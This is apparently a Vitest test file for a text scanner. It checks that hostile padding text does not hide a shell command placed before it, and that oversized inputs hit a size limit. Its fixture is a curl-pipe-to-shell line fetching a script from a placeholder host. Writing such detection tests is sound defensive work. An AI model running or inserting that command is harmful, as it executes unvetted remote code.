import { describe, expect, it } from "vitest";
import { families } from "../../bench/hostile-families.js";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
/** The length of the texts. It exceeds every limit except the size of one program. test/release/hostile-sizes.test.ts doubles it. */
const SIZE = 10_000;
/** Families whose texts are twice as long, so that they exceed the size of one program. */
const LONGER = [
  "angle brackets without spaces",
  "closing parentheses",
  "emphasis",
  "make recipes",
  "NUL characters",
  "random scraps",
];
const sizes = new Map(
  Object.keys(families).map((name) => [name, LONGER.includes(name) ? 2 * SIZE : SIZE]),
);

describe("hostile text with", { timeout: 120_000 }, () => {
  it.each([...sizes])("%s does not hide a command before it", async (name, size) => {
    const detector = await sharedDetector();
    const text = BEFORE + (families[name]?.(size) ?? "");
    const detection = detector.detect(text);
    assertSound(text, detection);
    expect(detection.findings[0]?.text).toBe(FLAGGED);
  });

  it.each(LONGER)("%s of twice the length exceeds the size of one program", async (name) => {
    const { outcome } = (await sharedDetector()).detect(families[name]?.(2 * SIZE) ?? "");
    expect(outcome.status === "incomplete" && outcome.limits.map(({ limit }) => limit)).toContain(
      "size",
    );
  });
});
